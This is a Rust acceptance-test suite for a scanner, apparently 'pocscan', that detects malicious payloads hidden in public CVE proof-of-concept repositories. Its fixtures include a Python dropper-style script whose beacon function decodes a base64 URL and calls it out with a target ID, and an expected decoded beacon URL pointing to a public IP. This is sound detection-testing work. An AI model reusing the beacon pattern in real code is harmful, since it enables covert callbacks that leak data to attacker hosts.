//! Acceptance suite. Prints one PASS/FAIL line per criterion and exits
//! non-zero when any criterion fails or overruns its time budget.

use std::collections::{BTreeMap, BTreeSet};
use std::net::Ipv4Addr;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use chrono::{TimeZone, Utc};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

use pocscan::corpus::{CveId, RepoId, RepoRecord};
use pocscan::extract::{extract_base64_payloads, extract_hex_payloads, extract_ips, filter_public, ExtractOptions};
use pocscan::intel::{IntelSource, IntelVerdict, VerdictStatus};
use pocscan::similarity::{gst_similarity, mann_whitney_u, tokenize_str, TestMethod, TokenStream};
use pocscan::verdict::{classify_binary, classify_payload, format_percent, summarize, BinaryLabel, Lexicons, PayloadClass};
use pocscan_cli::{Config, Pipeline};

type Outcome = Result<(), String>;

macro_rules! check {
    ($cond:expr, $($msg:tt)+) => {
        if !$cond {
            return Err(format!($($msg)+));
        }
    };
}

fn seeded() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/seeded")
}

fn bin() -> &'static str {
    env!("CARGO_BIN_EXE_pocscan")
}

// ---------------------------------------------------------------- 1

fn beacon_url_vector() -> Outcome {
    let path = seeded().join("dave/CVE-2022-26134-confluence/exploit.py");
    let src = std::fs::read_to_string(&path).map_err(|e| format!("{}: {e}", path.display()))?;
    let payloads = extract_base64_payloads(&src, Path::new("exploit.py"), &ExtractOptions::default());
    check!(payloads.len() == 1, "expected one payload, got {}", payloads.len());
    let p = &payloads[0];
    check!(p.decoded == b"http://54.184.20.69/poc2.php", "decoded {:?}", p.decoded_text());
    let ips: Vec<&str> = p.embedded_ips.iter().map(|c| c.literal.as_str()).collect();
    check!(ips == ["54.184.20.69"], "embedded ips {ips:?}");
    check!(
        p.embedded_ips[0].classification == pocscan::extract::IpClass::Public,
        "embedded ip not public"
    );
    let d = classify_payload(p, &BTreeMap::new(), &Lexicons::default());
    check!(d.class >= PayloadClass::Suspicious, "classified {:?}", d.class);
    Ok(())
}

// ---------------------------------------------------------------- 2

fn decision_table() -> Outcome {
    let lex = Lexicons::default();
    let cves: BTreeSet<CveId> = ["CVE-2019-0708".parse().unwrap()].into();
    let mut malicious = 0;
    for flagged in [false, true] {
        for cve in [false, true] {
            for tool in [false, true] {
                let mut labels = vec!["trojan.generic".to_string()];
                if cve {
                    labels.push("exploit.cve-2019-0708".into());
                }
                if tool {
                    labels.push("hacktool.netcat".into());
                }
                let v = IntelVerdict {
                    labels,
                    detection_count: if flagged { 12 } else { 0 },
                    malicious: flagged,
                    ..IntelVerdict::clean("ab".repeat(32).as_str(), IntelSource::ScanService)
                };
                check!(v.status == VerdictStatus::Known, "fixture verdict not known");
                let want = match (flagged, cve, tool) {
                    (false, _, _) => BinaryLabel::Clean,
                    (true, true, _) => BinaryLabel::CveRelated,
                    (true, false, true) => BinaryLabel::Hacktool,
                    (true, false, false) => BinaryLabel::Malicious,
                };
                let got = classify_binary(&v, &cves, &lex);
                check!(got == want, "({flagged}, {cve}, {tool}): got {got:?}, want {want:?}");
                malicious += (got == BinaryLabel::Malicious) as u32;
            }
        }
    }
    check!(malicious == 1, "{malicious} combinations labelled malicious");
    Ok(())
}

// ---------------------------------------------------------------- 3

/// Inclusive ranges written out by hand.
const PRIVATE: [(&str, &str); 3] = [
    ("10.0.0.0", "10.255.255.255"),
    ("172.16.0.0", "172.31.255.255"),
    ("192.168.0.0", "192.168.255.255"),
];

const SPECIAL: [(&str, &str); 11] = [
    ("0.0.0.0", "0.255.255.255"),
    ("100.64.0.0", "100.127.255.255"),
    ("127.0.0.0", "127.255.255.255"),
    ("169.254.0.0", "169.254.255.255"),
    ("192.0.0.0", "192.0.0.255"),
    ("192.0.2.0", "192.0.2.255"),
    ("198.18.0.0", "198.19.255.255"),
    ("198.51.100.0", "198.51.100.255"),
    ("203.0.113.0", "203.0.113.255"),
    ("224.0.0.0", "239.255.255.255"),
    ("240.0.0.0", "255.255.255.255"),
];

fn quad(s: &str) -> u32 {
    s.split('.').fold(0u32, |acc, o| acc * 256 + o.parse::<u32>().unwrap())
}

fn within(x: u32, ranges: &[(&str, &str)]) -> bool {
    ranges.iter().any(|(lo, hi)| quad(lo) <= x && x <= quad(hi))
}

fn dotted(x: u32) -> String {
    format!("{}.{}.{}.{}", x >> 24, (x >> 16) & 255, (x >> 8) & 255, x & 255)
}

fn rfc1918() -> Outcome {
    let mut rng = StdRng::seed_from_u64(1918);
    let mut addrs: Vec<u32> = Vec::new();
    for (lo, hi) in PRIVATE {
        let (lo, hi) = (quad(lo), quad(hi));
        addrs.extend([lo, lo + 1, hi - 1, hi, lo - 1, hi + 1]);
    }
    for i in 0..10_000 {
        addrs.push(match i % 3 {
            0 => {
                let (lo, hi) = PRIVATE[rng.gen_range(0..3)];
                rng.gen_range(quad(lo)..=quad(hi))
            }
            _ => rng.gen(),
        });
    }
    let (mut private_seen, mut public_seen) = (0, 0);
    for x in addrs {
        let text = format!("target = \"{}\"\n", dotted(x));
        let candidates = extract_ips(&text, Path::new("poc.py"));
        check!(candidates.len() == 1, "{}: {} candidates", dotted(x), candidates.len());
        let kept = filter_public(&candidates).kept;
        if within(x, &PRIVATE) {
            private_seen += 1;
            check!(kept.is_empty(), "private {} survived", dotted(x));
        } else if !within(x, &SPECIAL) {
            public_seen += 1;
            check!(kept.len() == 1, "public {} dropped", dotted(x));
        }
    }
    check!(private_seen > 3000 && public_seen > 3000, "sample too thin: {private_seen}/{public_seen}");
    Ok(())
}

// ---------------------------------------------------------------- 4

fn ip_precision() -> Outcome {
    check!(
        extract_ips("host = \"1.2.3.4.5\"\n", Path::new("a.py")).is_empty(),
        "five-octet string produced a candidate"
    );
    for pos in 0..4 {
        for v in 0u32..=299 {
            let mut octets = [8u32, 8, 8, 8];
            octets[pos] = v;
            let lit = format!("{}.{}.{}.{}", octets[0], octets[1], octets[2], octets[3]);
            let found = extract_ips(&format!("x = '{lit}'\n"), Path::new("a.py"));
            if v <= 255 {
                check!(found.len() == 1 && found[0].literal == lit, "{lit}: {found:?}");
                let want = Ipv4Addr::new(octets[0] as u8, octets[1] as u8, octets[2] as u8, octets[3] as u8);
                check!(found[0].addr() == want, "{lit} parsed as {}", found[0].addr());
            } else {
                check!(found.is_empty(), "out-of-range {lit} matched {found:?}");
            }
        }
    }
    Ok(())
}

// ---------------------------------------------------------------- 5

fn b64(bytes: &[u8]) -> String {
    const ALPHA: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let mut buf = [0u8; 3];
        buf[..chunk.len()].copy_from_slice(chunk);
        let idx = [buf[0] >> 2, (buf[0] & 3) << 4 | buf[1] >> 4, (buf[1] & 15) << 2 | buf[2] >> 6, buf[2] & 63];
        for (k, i) in idx.iter().enumerate() {
            out.push(if k <= chunk.len() { ALPHA[*i as usize] as char } else { '=' });
        }
    }
    out
}

fn hex_escapes(bytes: &[u8]) -> String {
    const DIGITS: &[u8] = b"0123456789abcdef";
    let mut out = String::new();
    for b in bytes {
        out.push_str("\\x");
        out.push(DIGITS[(b >> 4) as usize] as char);
        out.push(DIGITS[(b & 15) as usize] as char);
    }
    out
}

fn round_trips() -> Outcome {
    let mut rng = StdRng::seed_from_u64(64);
    let opts = ExtractOptions::default();
    let file = Path::new("blob.py");
    for _ in 0..10_000 {
        let n = rng.gen_range(15..200);
        let bytes: Vec<u8> = (0..n).map(|_| rng.gen()).collect();

        let hex = extract_hex_payloads(&format!("buf = \"{}\"\n", hex_escapes(&bytes)), file, &opts);
        check!(hex.first().is_some_and(|p| p.depth == 1 && p.decoded == bytes), "hex round trip of {bytes:02x?}");

        let text = format!("blob = \"{}\"\n", b64(&bytes));
        let top: Vec<_> = extract_base64_payloads(&text, file, &opts).into_iter().filter(|p| p.depth == 1).collect();
        check!(top.len() == 1 && top[0].decoded == bytes, "base64 round trip of {bytes:02x?}");
    }
    let deep = ExtractOptions { max_depth: 2, ..ExtractOptions::default() };
    let shallow = ExtractOptions { max_depth: 1, ..ExtractOptions::default() };
    for _ in 0..200 {
        let n = rng.gen_range(15..80);
        let inner: Vec<u8> = (0..n).map(|_| rng.gen_range(b' '..=b'~')).collect();
        let text = format!("p = \"{}\"\n", b64(b64(&inner).as_bytes()));
        let found = extract_base64_payloads(&text, file, &deep);
        check!(
            found.iter().any(|p| p.depth == 2 && p.decoded == inner),
            "double encoding of {:?} not recovered",
            String::from_utf8_lossy(&inner)
        );
        let found = extract_base64_payloads(&text, file, &shallow);
        check!(found.iter().all(|p| p.depth == 1), "depth limit ignored");
    }
    Ok(())
}

// ---------------------------------------------------------------- 6

fn run_scan(work: &Path) -> Result<(i32, String), String> {
    let out = Command::new(bin())
        .arg("--work")
        .arg(work)
        .args(["scan", "--fixture-only", "--corpus"])
        .arg(seeded())
        .output()
        .map_err(|e| e.to_string())?;
    let code = out.status.code().ok_or("killed by signal")?;
    Ok((code, String::from_utf8_lossy(&out.stdout).into_owned()))
}

fn seeded_end_to_end() -> Outcome {
    let seeds: serde_json::Value =
        serde_json::from_slice(&std::fs::read(seeded().join(".pocscan/seeds.json")).map_err(|e| e.to_string())?)
            .map_err(|e| e.to_string())?;
    let want: BTreeSet<String> = seeds["malicious"].as_object().ok_or("seed manifest")?.keys().cloned().collect();
    check!(want.len() == 4, "seed manifest lists {} repos", want.len());
    let work = tempfile::tempdir().map_err(|e| e.to_string())?;
    let (code, stdout) = run_scan(work.path())?;
    let got: BTreeSet<String> = stdout
        .lines()
        .filter_map(|l| l.strip_prefix("malicious\t"))
        .map(str::to_string)
        .collect();
    let hits = got.intersection(&want).count();
    check!(hits == want.len(), "recall {hits}/{}: missing {:?}", want.len(), want.difference(&got).collect::<Vec<_>>());
    check!(hits == got.len(), "precision {hits}/{}: extra {:?}", got.len(), got.difference(&want).collect::<Vec<_>>());
    check!(code == 2, "exit code {code}");
    Ok(())
}

// ---------------------------------------------------------------- 7

/// Longest-first tiling by exhaustive enumeration: every start pair and
/// every length is tried each round.
fn tiling_oracle(a: &[u8], b: &[u8], mml: usize) -> f64 {
    if a.is_empty() && b.is_empty() {
        return 0.0;
    }
    let (x, y) = if (a.len(), a) <= (b.len(), b) { (a, b) } else { (b, a) };
    let mut used_x = vec![false; x.len()];
    let mut used_y = vec![false; y.len()];
    let mut covered = 0;
    loop {
        let mut best = 0;
        let mut starts = Vec::new();
        for i in 0..x.len() {
            for j in 0..y.len() {
                for len in mml.max(1)..=(x.len() - i).min(y.len() - j) {
                    let ok = (0..len).all(|k| x[i + k] == y[j + k] && !used_x[i + k] && !used_y[j + k]);
                    if !ok {
                        break;
                    }
                    if len > best {
                        best = len;
                        starts.clear();
                    }
                    if len == best {
                        starts.push((i, j));
                    }
                }
            }
        }
        if best == 0 {
            break;
        }
        for (i, j) in starts {
            if (i..i + best).all(|k| !used_x[k]) && (j..j + best).all(|k| !used_y[k]) {
                (i..i + best).for_each(|k| used_x[k] = true);
                (j..j + best).for_each(|k| used_y[k] = true);
                covered += best;
            }
        }
    }
    200.0 * covered as f64 / (a.len() + b.len()) as f64
}

fn gst_oracle() -> Outcome {
    let mut rng = StdRng::seed_from_u64(7);
    for case in 0..1000 {
        let alphabet = rng.gen_range(2..5u8);
        let seq = |rng: &mut StdRng| -> Vec<u8> {
            let n = rng.gen_range(0..=16);
            (0..n).map(|_| rng.gen_range(0..alphabet)).collect()
        };
        let a = seq(&mut rng);
        let b = seq(&mut rng);
        for mml in 1..=3 {
            let got = gst_similarity(&a, &b, mml);
            let want = tiling_oracle(&a, &b, mml);
            check!((got - want).abs() < 1e-9, "case {case}: {a:?} {b:?} mml {mml}: {got} vs {want}");
            let back = gst_similarity(&b, &a, mml);
            check!(got == back, "case {case}: asymmetric {got} vs {back}");
            check!((0.0..=100.0).contains(&got), "case {case}: out of range {got}");
            if a.len() >= mml {
                let own = gst_similarity(&a, &a, mml);
                check!(own == 100.0, "case {case}: self score {own} for {a:?}");
            }
        }
    }
    Ok(())
}

// ---------------------------------------------------------------- 8

/// Twice U_A, counting pairs by hand.
fn twice_u(a: &[f64], b: &[f64]) -> i64 {
    a.iter()
        .flat_map(|x| b.iter().map(move |y| if x > y { 2 } else if x == y { 1 } else { 0 }))
        .sum()
}

fn permutation_p(a: &[f64], b: &[f64]) -> f64 {
    let pooled: Vec<f64> = a.iter().chain(b).copied().collect();
    let n = pooled.len();
    let center = (a.len() * b.len()) as i64;
    let observed = (twice_u(a, b) - center).abs();
    let (mut hit, mut all) = (0u64, 0u64);
    for mask in 0u32..1 << n {
        if mask.count_ones() as usize != a.len() {
            continue;
        }
        let (ga, gb): (Vec<f64>, Vec<f64>) = (0..n).map(|i| (mask >> i & 1 == 1, pooled[i])).fold(
            (Vec::new(), Vec::new()),
            |(mut ga, mut gb), (in_a, x)| {
                if in_a {
                    ga.push(x)
                } else {
                    gb.push(x)
                }
                (ga, gb)
            },
        );
        all += 1;
        hit += ((twice_u(&ga, &gb) - center).abs() >= observed) as u64;
    }
    hit as f64 / all as f64
}

fn mwu_exact() -> Outcome {
    let mut rng = StdRng::seed_from_u64(8);
    for case in 0..500 {
        let na = rng.gen_range(1..=7);
        let nb = rng.gen_range(1..=7);
        let spread = rng.gen_range(2..12);
        let a: Vec<f64> = (0..na).map(|_| rng.gen_range(0..spread) as f64).collect();
        let b: Vec<f64> = (0..nb).map(|_| rng.gen_range(0..spread) as f64).collect();
        let r = mann_whitney_u(&a, &b, pocscan::similarity::DEFAULT_EXACT_CAP).map_err(|e| e.to_string())?;
        check!(r.method == TestMethod::Exact, "case {case}: not exact");
        check!(r.u_a + r.u_b == (na * nb) as f64, "case {case}: U_A + U_B = {}", r.u_a + r.u_b);
        check!(2.0 * r.u_a == twice_u(&a, &b) as f64, "case {case}: U_A {}", r.u_a);
        let want = permutation_p(&a, &b);
        check!((r.p - want).abs() <= 1e-9, "case {case}: {a:?} {b:?}: p {} vs {want}", r.p);
    }
    Ok(())
}

// ---------------------------------------------------------------- 9

fn record(id: &str, cve: &str) -> RepoRecord {
    let t = Utc.with_ymd_and_hms(2022, 6, 1, 0, 0, 0).unwrap();
    let (owner, name) = id.split_once('/').unwrap();
    RepoRecord {
        repo_id: RepoId(id.into()),
        owner: owner.into(),
        name: name.into(),
        description: String::new(),
        primary_language: "Python".into(),
        stars: 0,
        forks: 0,
        created_at: t,
        updated_at: t,
        pushed_at: t,
        is_fork: false,
        parent_id: None,
        cve_ids: [cve.parse().unwrap()].into(),
        local_path: None,
    }
}

const DROPPER: &str = r#"import sys
import requests
import base64

def banner():
    print("[*] exploit for target")
    print("[*] usage: %s <url>" % sys.argv[0])

def build(cmd, host):
    body = {"name": "x", "value": cmd, "host": host}
    headers = {"User-Agent": "Mozilla/5.0", "Content-Type": "application/json"}
    return body, headers

def send(url, cmd):
    body, headers = build(cmd, url)
    r = requests.post(url + "/api/v1/run", json=body, headers=headers, verify=False)
    if r.status_code != 200:
        print("[-] failed", r.status_code)
        return None
    return r.text

def beacon():
    u = base64.b64decode(STAGE).decode()
    requests.get(u, params={"id": sys.argv[1]}, timeout=5)

def main():
    if len(sys.argv) < 2:
        banner()
        sys.exit(1)
    beacon()
    for c in ["id", "uname -a", "whoami"]:
        out = send(sys.argv[1], c)
        if out:
            print(out)

if __name__ == "__main__":
    main()
"#;

/// A random but syntactically plausible Python program.
fn random_program(rng: &mut StdRng) -> String {
    fn expr(rng: &mut StdRng, depth: u32) -> String {
        let leaf = depth > 2 || rng.gen_bool(0.4);
        if leaf {
            return match rng.gen_range(0..3) {
                0 => format!("v{}", rng.gen_range(0..9)),
                1 => rng.gen_range(0..1000).to_string(),
                _ => format!("'s{}'", rng.gen_range(0..9)),
            };
        }
        match rng.gen_range(0..6) {
            0 => {
                let args: Vec<String> = (0..rng.gen_range(0..4)).map(|_| expr(rng, depth + 1)).collect();
                format!("f{}({})", rng.gen_range(0..9), args.join(", "))
            }
            1 => {
                let op = ["+", "-", "*", "%", "==", "<", "and", "or"][rng.gen_range(0..8)];
                format!("{} {op} {}", expr(rng, depth + 1), expr(rng, depth + 1))
            }
            2 => {
                let items: Vec<String> = (0..rng.gen_range(0..4)).map(|_| expr(rng, depth + 1)).collect();
                format!("[{}]", items.join(", "))
            }
            3 => format!("v{}.a{}", rng.gen_range(0..9), rng.gen_range(0..9)),
            4 => format!("v{}[{}]", rng.gen_range(0..9), expr(rng, depth + 1)),
            _ => format!("{{{}: {}}}", expr(rng, depth + 1), expr(rng, depth + 1)),
        }
    }
    fn block(rng: &mut StdRng, indent: usize, n: usize, out: &mut String) {
        let pad = "    ".repeat(indent);
        for _ in 0..n {
            let nested = indent < 2 && rng.gen_bool(0.3);
            match rng.gen_range(0..if nested { 9 } else { 4 }) {
                0 => out.push_str(&format!("{pad}v{} = {}\n", rng.gen_range(0..9), expr(rng, 0))),
                1 => out.push_str(&format!("{pad}print({})\n", expr(rng, 0))),
                2 => out.push_str(&format!("{pad}return {}\n", expr(rng, 0))),
                3 => out.push_str(&format!("{pad}import m{}\n", rng.gen_range(0..9))),
                4 => out.push_str(&format!("{pad}if {}:\n", expr(rng, 0))),
                5 => out.push_str(&format!("{pad}for v{} in {}:\n", rng.gen_range(0..9), expr(rng, 0))),
                6 => out.push_str(&format!("{pad}while {}:\n", expr(rng, 0))),
                7 => out.push_str(&format!("{pad}def f{}(v1, v2):\n", rng.gen_range(0..9))),
                _ => out.push_str(&format!("{pad}try:\n")),
            }
            if out.ends_with(":\n") {
                let inner = rng.gen_range(1..4);
                block(rng, indent + 1, inner, out);
                if out.contains(&format!("{pad}try:\n")) && rng.gen_bool(0.5) {
                    out.push_str(&format!("{pad}except Exception:\n{pad}    pass\n"));
                }
            }
        }
    }
    let mut out = String::new();
    let n = rng.gen_range(12..20);
    block(rng, 0, n, &mut out);
    out
}

fn similarity_direction() -> Outcome {
    let cve = "CVE-2022-22965";
    let mut rng = StdRng::seed_from_u64(9);
    let mut records = Vec::new();
    let mut streams: BTreeMap<RepoId, Vec<TokenStream>> = BTreeMap::new();
    let mut malicious = BTreeSet::new();
    let stream = |src: &str| tokenize_str(src, "Python").map_err(|e| e.to_string());
    for i in 0..6 {
        let id = format!("m{i}/{cve}");
        let lines: Vec<&str> = DROPPER.lines().collect();
        let cut = 4 + i * 5;
        let src = format!(
            "{}\nSTAGE = 'aHR0cDovL{i}'\nv{i} = f{i}(v1, {i})\n{}\n",
            lines[..cut].join("\n"),
            lines[cut..].join("\n")
        );
        let r = record(&id, cve);
        malicious.insert(r.repo_id.clone());
        streams.insert(r.repo_id.clone(), vec![stream(&src)?]);
        records.push(r);
    }
    for i in 0..10 {
        let r = record(&format!("b{i}/{cve}"), cve);
        streams.insert(r.repo_id.clone(), vec![stream(&random_program(&mut rng))?]);
        records.push(r);
    }
    let pairs = pocscan_cli::similarity::all_pairs(&records, &streams, &malicious, 9, true);
    check!(pairs.len() == 16 * 15 / 2, "{} pairs", pairs.len());
    let comparisons = pocscan_cli::similarity::compare(&pairs, pocscan::similarity::DEFAULT_EXACT_CAP)
        .map_err(|e| e.to_string())?;
    let c = comparisons
        .iter()
        .find(|c| c.a == "11" && c.b == "00")
        .ok_or("no 11 vs 00 comparison")?;
    check!(c.median_a > c.median_b, "median(11) {} <= median(00) {}", c.median_a, c.median_b);
    check!(c.test.p < 0.05, "p = {}", c.test.p);
    println!(
        "    median(11) {:.2}, median(00) {:.2}, U {} p {:.3e}",
        c.median_a, c.median_b, c.test.u_a, c.test.p
    );
    Ok(())
}

// ---------------------------------------------------------------- 10

fn summary_fidelity() -> Outcome {
    check!(format_percent(338, 14696).as_deref() == Some("2.30%"), "338/14696 -> {:?}", format_percent(338, 14696));

    let root = seeded();
    let mut config = Config::discover(None, Some(&root)).map_err(|e| e.to_string())?;
    config.paths.corpus = Some(root);
    config.modes.fixture_only = true;
    let work = tempfile::tempdir().map_err(|e| e.to_string())?;
    let p = Pipeline::new(config, work.path());
    p.run(false).map_err(|e| e.to_string())?;
    let s = summarize(&p.analyses().map_err(|e| e.to_string())?, &p.summary_inputs().map_err(|e| e.to_string())?);

    let o = &s.overview;
    check!(
        (o.repos_without_cve, o.repos_with_cve, o.cve_ids_extracted, o.distinct_cves) == (0, 12, 12, 10),
        "overview {o:?}"
    );
    check!(s.languages == [("Python".to_string(), 11), ("C".to_string(), 1)], "languages {:?}", s.languages);

    let years: Vec<(&str, usize, usize, usize)> =
        s.cve_years.iter().map(|r| (r.label.as_str(), r.unique_cves, r.repos, r.pocs)).collect();
    check!(
        years
            == [
                ("2017", 1, 1, 1),
                ("2019", 1, 2, 2),
                ("2020", 1, 1, 1),
                ("2021", 5, 6, 6),
                ("2022", 2, 2, 2),
                ("Total", 10, 12, 12)
            ],
        "cve years {years:?}"
    );
    let y2017 = &s.cve_years[0];
    check!(y2017.nvd_total == Some(14696), "2017 nvd total {:?}", y2017.nvd_total);

    let ip = s.ips.last().ok_or("no ip rows")?;
    check!(
        (ip.label.as_str(), ip.extracted, ip.checked, ip.blocklist, ip.scan_service, ip.reputation_db, ip.malicious)
            == ("Total", 5, 2, 1, 1, 1, 1),
        "ip total {ip:?}"
    );

    let bl = &s.binary_labels;
    check!(
        (bl.malicious, bl.cve_related, bl.hacktool, bl.clean, bl.total) == (1, 1, 1, 0, 3),
        "binary labels {bl:?}"
    );
    let bins: Vec<(&str, usize, usize, usize)> = s
        .binaries
        .iter()
        .filter(|r| r.binaries > 0)
        .map(|r| (r.label.as_str(), r.binaries, r.malicious_binaries, r.malicious_repos))
        .collect();
    check!(bins == [("2017", 1, 0, 0), ("2019", 2, 1, 1), ("Total", 3, 1, 1)], "binaries {bins:?}");

    let row = |rows: &[pocscan::verdict::summary::PayloadRow]| {
        let t = rows.last().unwrap();
        (t.repos, t.containing, t.suspicious_or_worse, t.malicious)
    };
    check!(row(&s.hex) == (12, 2, 1, 1), "hex total {:?}", s.hex.last());
    check!(row(&s.base64) == (12, 3, 2, 1), "base64 total {:?}", s.base64.last());

    let summary: Vec<(&str, usize, usize, usize)> =
        s.summary.iter().map(|r| (r.label.as_str(), r.repos, r.malicious, r.suspicious_only)).collect();
    check!(
        summary
            == [
                ("2017", 1, 0, 0),
                ("2019", 2, 1, 0),
                ("2020", 1, 1, 0),
                ("2021", 6, 1, 1),
                ("2022", 2, 1, 0),
                ("Total", 12, 4, 1)
            ],
        "summary {summary:?}"
    );
    let heur: Vec<usize> = s.heuristic_counts.values().copied().collect();
    check!(heur == [1, 1, 1, 1], "heuristic counts {:?}", s.heuristic_counts);
    Ok(())
}

// ---------------------------------------------------------------- 11

fn determinism() -> Outcome {
    let one = tempfile::tempdir().map_err(|e| e.to_string())?;
    let two = tempfile::tempdir().map_err(|e| e.to_string())?;
    run_scan(one.path())?;
    run_scan(two.path())?;
    for name in ["report.json", "report.md"] {
        let a = std::fs::read(one.path().join(name)).map_err(|e| e.to_string())?;
        let b = std::fs::read(two.path().join(name)).map_err(|e| e.to_string())?;
        check!(!a.is_empty() && a == b, "{name} differs between runs");
    }
    Ok(())
}

fn main() {
    let criteria: [(u32, &str, Duration, fn() -> Outcome); 11] = [
        (1, "base64 beacon url golden vector", Duration::from_secs(1), beacon_url_vector),
        (2, "binary decision table", Duration::from_secs(1), decision_table),
        (3, "rfc1918 filtering", Duration::from_secs(5), rfc1918),
        (4, "ip pattern precision", Duration::from_secs(1), ip_precision),
        (5, "encoding round trips", Duration::from_secs(10), round_trips),
        (6, "seeded corpus end to end", Duration::from_secs(10), seeded_end_to_end),
        (7, "gst oracle equivalence", Duration::from_secs(60), gst_oracle),
        (8, "mann-whitney exactness", Duration::from_secs(60), mwu_exact),
        (9, "similarity direction", Duration::from_secs(30), similarity_direction),
        (10, "summary table fidelity", Duration::from_secs(1), summary_fidelity),
        (11, "determinism", Duration::from_secs(20), determinism),
    ];
    let mut failed = 0;
    for (n, name, budget, f) in criteria {
        let start = Instant::now();
        let outcome = catch_unwind(AssertUnwindSafe(f)).unwrap_or_else(|e| {
            Err(e
                .downcast_ref::<String>()
                .cloned()
                .or_else(|| e.downcast_ref::<&str>().map(|s| s.to_string()))
                .unwrap_or_else(|| "panicked".into()))
        });
        let took = start.elapsed();
        let outcome = outcome.and_then(|()| {
            if took > budget {
                Err(format!("took {took:?}, budget {budget:?}"))
            } else {
                Ok(())
            }
        });
        match outcome {
            Ok(()) => println!("PASS {n:>2} {name} ({} ms)", took.as_millis()),
            Err(why) => {
                failed += 1;
                println!("FAIL {n:>2} {name} ({} ms): {why}", took.as_millis());
            }
        }
    }
    if failed > 0 {
        println!("{failed} of 11 criteria failed");
        std::process::exit(1);
    }
    println!("all 11 criteria passed");
}
